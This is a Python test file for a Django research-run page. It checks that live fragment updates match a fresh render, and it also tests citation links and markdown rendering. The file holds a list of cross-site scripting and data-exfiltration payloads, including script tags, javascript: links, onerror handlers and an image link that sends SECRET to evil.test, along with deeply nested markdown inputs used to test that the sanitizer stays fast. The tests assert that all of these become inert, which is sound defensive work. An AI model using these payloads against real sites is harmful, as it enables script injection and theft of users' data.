"""The page live and the page reloaded are one thing, fragment by fragment."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from itertools import pairwise
from uuid import uuid4

import pytest
from django.utils.html import escape
from hypothesis import given, settings
from hypothesis import strategies as st

from research.faces import fragments
from research.faces.cache import Cache
from research.faces.fragments import Scope, ops, render
from research.faces.pieces import Page
from research.fold import fold
from research.rendering import LONGEST, markdown, streaming
from tests.research import recorded

EVENTS = recorded.whole()
LOG = recorded.texts(EVENTS)
SCOPE = Scope(uuid4(), "e1", "en")
LANE = frozenset({"task_2"})
END_OF_TEXT = re.compile(r"(<span data-text>[^<]*)(</span>)")


@pytest.fixture(autouse=True, scope="module")
def no_memory() -> Iterator[None]:
    """Render everything anew: what is remembered would hide that a fragment changed unannounced."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(fragments, "_rendered", Cache(0))
        yield


Dom = dict[str, tuple[str, int, str]]
"""The page, by id: its container, its order there, its HTML."""


def order_of(html: str) -> int:
    found = re.search(r'data-order="(\d+)"', html)
    assert found, html
    return int(found[1])


def page_at(upto: int, lanes: frozenset[str] | None = None, group: str = "task") -> Dom:
    state = fold(None, LOG[:upto])
    dom: Dom = {}
    for piece in Page(state, lanes).pieces():
        html = render(SCOPE, piece)
        assert piece.id not in dom, "an id stands once on a page"
        dom[piece.id] = (piece.container(group), order_of(html), html)
    places = [(into, order) for into, order, _ in dom.values()]
    assert len(places) == len(set(places)), "every place is taken once: no order is left to chance"
    return dom


def applied(
    dom: Dom, after: int, upto: int, lanes: frozenset[str] | None = None, group: str = "task"
) -> Dom:
    dom = dict(dom)
    for op in ops(SCOPE, fold(None, LOG[:upto]), after, lanes):
        match op:
            case {"op": "drop", "id": name}:
                dom.pop(name, None)
            case {"op": "text", "id": name, "text": text}:
                into, order, html = dom[name]
                html, count = END_OF_TEXT.subn(lambda m: m[1] + escape(text) + m[2], html)
                assert count == 1
                dom[name] = (into, order, html)
            case {"op": "put", "id": name, "into": into, "html": html}:
                by = op.get("by") if group == "member" else None
                dom[name] = (by or into, order_of(html), html)
    return dom


cuts = st.lists(st.integers(0, len(LOG)), min_size=2, max_size=6).map(sorted)


@settings(max_examples=60, deadline=None)
@given(cuts, st.sampled_from([(None, "task"), (None, "member"), (LANE, "task")]))
def test_a_page_that_followed_equals_a_page_that_was_loaded_wherever_it_was_cut(
    places: list[int], shown: tuple[frozenset[str] | None, str]
) -> None:
    dom = page_at(places[0], *shown)
    for after, upto in pairwise(places):
        dom = applied(dom, after, upto, *shown)
        assert dom == page_at(upto, *shown)


@pytest.mark.parametrize("group", ["task", "member"])
def test_a_page_that_followed_every_single_event_equals_the_page_at_the_end(group: str) -> None:
    dom = page_at(0, group=group)
    for seq in range(1, len(LOG) + 1):
        dom = applied(dom, seq - 1, seq, group=group)
        assert dom == page_at(seq, group=group), EVENTS[seq - 1]


def test_text_that_comes_is_appended_and_nothing_is_rendered_again() -> None:
    starts = [n for n, (_, data) in enumerate(EVENTS) if data.type == "message.delta"]
    second = starts[1]
    found = ops(SCOPE, fold(None, LOG[: second + 1]), second)
    assert [op["op"] for op in found] == ["text"]
    assert found[0]["text"] in "It is *discarded*"


def test_a_task_that_waits_is_nobodys() -> None:
    planned = next(n for n, (_, data) in enumerate(EVENTS, 1) if data.type == "plan.proposed")
    assert "leader" not in page_at(planned)["plan-1"][2]
    begun = next(n for n, (_, data) in enumerate(EVENTS, 1) if data.type == "task.started")
    assert "researcher-1" in page_at(begun)["plan-1"][2]


def at(type: str, nth: int = 0) -> int:
    """Return the `seq` of an event of this type."""
    return [seq for seq, (_, data) in enumerate(EVENTS, 1) if data.type == type][nth]


def words_of(html: str) -> str:
    return " ".join(re.sub(r"<[^>]*>", " ", html).split())


def test_a_lane_tells_in_one_line_what_is_being_done_and_since_when() -> None:
    asked = page_at(at("llm.started", 1))["now-task_1"][2]
    assert "Asking the model" in asked and "still waiting for the model" in asked
    assert re.search(r'data-since="\d{13}"', asked)
    searching = words_of(page_at(at("tool.started"))["now-task_1"][2])
    assert searching == "Searching “what on_commit promises” 1 call"
    assert words_of(page_at(len(LOG))["now-task_1"][2]) == "2 calls · 1 note"
    assert words_of(page_at(len(LOG))["now-task_3"][2]) == "2 calls · 1 error"


def test_a_member_that_thinks_is_told_apart_from_one_that_waits_for_its_model() -> None:
    html = page_at(at("reasoning.started"))["now-task_3"][2]
    assert "Thinking" in html and "still waiting" not in html


def test_a_members_lane_holds_what_it_did_in_every_task() -> None:
    dom = page_at(len(LOG), group="member")
    lanes = {name: words_of(html) for name, (into, _, html) in dom.items() if into == "team_lanes"}
    assert len(lanes) == len(fold(None, LOG).members) == 6
    mine = dom["tool-c1-1"][0]
    assert dom["tool-c3-2"][0] == dom["note-11"][0] == mine != dom["tool-c2-2"][0]
    assert "Task 3" in dom["tool-c3-2"][2]


def test_who_speaks_before_joining_gets_a_lane_when_it_has_joined() -> None:
    joined = at("member.joined", 5)
    spoke = f"moment-{at('status')}"
    assert page_at(joined - 1, group="member")[spoke][0] == "items_lead"
    assert page_at(joined, group="member")[spoke][0].startswith("items_by_")


def test_a_tool_that_failed_says_so_in_a_sentence_with_its_code() -> None:
    html = page_at(len(LOG))["tool-c3-2"][2]
    assert "The site cannot be reached. The team goes on with other sources." in html
    assert "<code>unreachable</code>" in html and "https://pages.example/2" in html
    assert "tool-error" not in page_at(len(LOG))["tool-c3-1"][2]


def test_the_counts_are_those_of_what_is_there() -> None:
    html = words_of(page_at(len(LOG))["stages"][2])
    assert "tasks 3/3 3 sources 1 page read 1 note" in html
    assert "2 sections" in html and "citations 2/2" in html


def test_what_each_member_used_is_told_where_it_is_known() -> None:
    rows = page_at(len(LOG))["usage-table"][2].split("<tr>")
    used = {words_of(row) for row in rows}
    assert any("researcher-1 2 1234 1.2k" in row for row in used), used
    assert any(row.startswith("W writer 0 –") for row in used), used


def test_the_contents_lead_to_the_sections_as_they_come() -> None:
    begun = page_at(at("message.started", 3))["contents-list"][2]
    assert 'href="#msg-s1"' in begun
    done = page_at(len(LOG))["contents-list"][2]
    assert 'href="#section-1"' in done and 'href="#section-2"' in done


def test_a_note_leads_to_its_task_and_its_sources() -> None:
    html = page_at(len(LOG))["notecard-11"][2]
    assert f'href="/runs/{SCOPE.run_id}/tasks/1/"' in html
    assert f'href="/runs/{SCOPE.run_id}/sources/1/"' in html


def test_a_source_says_who_needs_it_and_whether_it_was_read() -> None:
    dom = page_at(len(LOG))
    assert 'data-task="1" data-site="docs.example" data-used="cited"' in dom["source-1"][2]
    assert 'data-used="uncited"' in dom["source-3"][2]
    assert "read whole, 54k characters" in dom["source-3"][2]


def test_a_lane_shows_nothing_of_another() -> None:
    for into, _, html in page_at(len(LOG), LANE).values():
        assert into in ("head_task_2", "now_task_2", "items_task_2")
        assert recorded.TITLES[0] not in html


def test_what_a_discarded_attempt_said_leaves_the_page() -> None:
    at = next(n for n, (_, data) in enumerate(EVENTS) if data.type == "attempt.discarded")
    gone = {op["id"] for op in ops(SCOPE, fold(None, LOG[: at + 1]), at) if op["op"] == "drop"}
    assert {"tool-c2-1", "note-21", "notecard-21", "msg-mc2-1", "source-2"} <= gone


def test_a_section_takes_the_place_of_the_text_it_was_written_as() -> None:
    at = next(n for n, (_, data) in enumerate(EVENTS) if data.type == "report.section")
    found = ops(SCOPE, fold(None, LOG[: at + 1]), at)
    assert {"op": "drop", "id": "msg-s1"} in found
    assert [op["id"] for op in found if op.get("into") == "report"] == ["section-1"]


def test_a_fragment_holds_no_script_of_a_source_and_no_raw_marker() -> None:
    for _, _, html in page_at(len(LOG)).values():
        assert "<script" not in html and "<b>and</b>" not in html
        body = re.sub(r'<pre class="raw">.*?</pre>', "", html, flags=re.S)
        assert "[S" not in re.sub(r'="[^"]*"', "", body)


def test_a_citation_is_a_link_to_its_passage_and_tells_its_verdict() -> None:
    html = page_at(len(LOG))["section-1"][2]
    href = f"/runs/{SCOPE.run_id}/sources/1/?start={recorded.START}&amp;end={recorded.END}#quote"
    assert f'href="{href}"' in html
    assert "Supported by the passage" in html and "Brought in by researcher-1" in html


words = st.text(alphabet="[S12:-3] a漢", max_size=60)


@given(words, words)
def test_what_was_shown_of_a_text_stays_when_more_of_it_comes(some: str, more: str) -> None:
    assert streaming(some + more).startswith(streaming(some))


def test_markers_are_never_shown_raw_while_they_come() -> None:
    text = "It is so [S12:100-250], and [not] [S3]."
    for cut in range(len(text) + 1):
        assert "[S" not in streaming(text[:cut])
    assert streaming(text) == "It is so ˢ¹², and [not] ˢ³."


HOSTILE = (
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.test/a)",
    "[x](/signout/)",
    "![a](https://evil.test/?d=SECRET)",
    "![a][r]\n\n[r]: https://evil.test/x",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=https://evil.test>",
    "<base href=https://evil.test>",
    "<style>*{background:url(https://evil.test)}</style>",
    '<p style="x">',
    "<math><mglyph><style><img src=x onerror=alert(1)>",
    "<a id=csrfmiddlewaretoken>",
    '<span data-cite="1"></span>',
    '`<span data-cite="1"></span>`',
)


def test_hostile_markdown_becomes_inert() -> None:
    for text in HOSTILE:
        html = markdown(text, lambda number: "CITED", lambda marker: "MARKED")
        assert "CITED" not in html
        tags = set(re.findall(r"<\s*([a-z0-9]+)", html))
        assert tags <= {"p", "code", "pre"}, html
    assert "evil.test/?d" not in markdown("![a](https://evil.test/?d=SECRET)")


def test_a_link_names_its_host_and_follows_nobody() -> None:
    html = markdown("[the docs](https://docs.example/a?b=1&c=2)")
    assert 'rel="noopener noreferrer nofollow"' in html and "(docs.example)" in html


def test_a_very_long_text_is_cut_into_markdown_and_plain_text() -> None:
    marked = LONGEST // len("*a* ")
    html = markdown("*a* " * 50_000)
    assert html.count("<em>") == marked and html.count("*a*") == 50_000 - marked


LONG = {
    "a list of 3,000 items in six levels": "".join(
        "  " * (n % 6) + f"- item {n} with some words that make the whole of it long\n"
        for n in range(3000)
    ),
    "3,000 lists in one another": "- " * 3000 + "x",
    "400 lists by indentation": "".join("  " * n + "- x\n" for n in range(400)),
    "20,000 quotes in one another": ">" * 20_000 + "x",
    "a table of 3,000 columns": ("|" + "a|" * 3000 + "\n|" + "-|" * 3000 + "\n") * 2,
    "20,000 references": "".join(f"[a{n}]: https://x.example/{n}\n" for n in range(20_000)),
    "a megabyte": "word *em* **b** [l](https://x.example) `c`\n\n" * 25_000,
    "50,000 brackets": "[" * 50_000,
    "20,000 links that are none": "[a](" * 20_000,
}


@pytest.mark.parametrize("name", LONG)
def test_a_text_that_is_long_or_deep_is_shown_all_the_same(name: str) -> None:
    began = time.process_time()
    html = markdown(LONG[name])
    assert time.process_time() - began < 3, "measured: under 1 s"
    assert html and "<script" not in html


def test_numbers_that_cite_nothing_stay_as_they_are() -> None:
    assert markdown("see [7] and `a[0]`") == "<p>see [7] and <code>a[0]</code></p>\n"
